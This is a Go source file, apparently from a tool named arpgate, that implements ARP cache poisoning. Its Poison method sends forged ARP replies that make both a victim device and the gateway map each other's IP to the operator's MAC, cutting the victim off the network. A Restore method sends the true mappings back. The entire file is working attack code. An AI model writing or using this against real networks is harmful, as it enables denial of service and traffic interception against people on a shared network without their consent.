// Package spoof forges and undoes the ARP replies that cut a device off from
// its gateway.
package spoof

import (
	"errors"
	"net"

	"github.com/prabalesh/arpgate/internal/networking"
	"github.com/prabalesh/arpgate/internal/networking/arp"
	log "github.com/sirupsen/logrus"
)

// DefaultRestoreCount is how often each corrective reply is sent.
const DefaultRestoreCount = 4

// Sender writes an ARP reply repeat times.
type Sender interface {
	SendReply(r arp.Reply, repeat int) error
}

// Target is a device with both addresses known.
type Target struct {
	IP  net.IP
	MAC net.HardwareAddr
}

// Controller poisons and restores the ARP caches of a victim and the gateway.
type Controller struct {
	sender       Sender
	ifc          networking.InterfaceContext
	restoreCount int
}

func NewController(sender Sender, ifc networking.InterfaceContext, restoreCount int) *Controller {
	if restoreCount < 1 {
		restoreCount = DefaultRestoreCount
	}
	return &Controller{
		sender:       sender,
		ifc:          ifc,
		restoreCount: restoreCount,
	}
}

// Poison tells the victim that the gateway is at our MAC and the gateway
// that the victim is at our MAC. Entries expire on both ends, so this has
// to be repeated for as long as the device stays blocked.
func (c *Controller) Poison(t Target) error {
	fields := log.Fields{"ip": t.IP.String(), "mac": t.MAC.String()}
	log.WithFields(fields).Debug("spoofing")

	// Poison target: "Gateway is at our MAC"
	errVictim := c.sender.SendReply(arp.Reply{
		TargetIP:  t.IP,
		TargetMAC: t.MAC,
		SenderIP:  c.ifc.GatewayIP,
		SenderMAC: c.ifc.OwnMAC,
	}, 1)
	if errVictim != nil {
		log.WithFields(fields).Warnf("failed to spoof target: %v", errVictim)
	}

	// Poison gateway: "Target is at our MAC"
	errGateway := c.sender.SendReply(arp.Reply{
		TargetIP:  c.ifc.GatewayIP,
		TargetMAC: c.ifc.GatewayMAC,
		SenderIP:  t.IP,
		SenderMAC: c.ifc.OwnMAC,
	}, 1)
	if errGateway != nil {
		log.WithFields(fields).Warnf("failed to spoof gateway %s: %v", c.ifc.GatewayIP, errGateway)
	}

	return errors.Join(errVictim, errGateway)
}

// Restore sends the truthful mappings to both ends, several times over.
func (c *Controller) Restore(t Target) error {
	fields := log.Fields{"ip": t.IP.String(), "mac": t.MAC.String()}
	log.WithFields(fields).Debug("restoring arp entries")

	errVictim := c.sender.SendReply(arp.Reply{
		TargetIP:  t.IP,
		TargetMAC: t.MAC,
		SenderIP:  c.ifc.GatewayIP,
		SenderMAC: c.ifc.GatewayMAC,
	}, c.restoreCount)
	if errVictim != nil {
		log.WithFields(fields).Warnf("failed to restore target: %v", errVictim)
	}

	errGateway := c.sender.SendReply(arp.Reply{
		TargetIP:  c.ifc.GatewayIP,
		TargetMAC: c.ifc.GatewayMAC,
		SenderIP:  t.IP,
		SenderMAC: t.MAC,
	}, c.restoreCount)
	if errGateway != nil {
		log.WithFields(fields).Warnf("failed to restore gateway %s: %v", c.ifc.GatewayIP, errGateway)
	}

	return errors.Join(errVictim, errGateway)
}

// RestoreCount is the number of copies per corrective reply.
func (c *Controller) RestoreCount() int { return c.restoreCount }
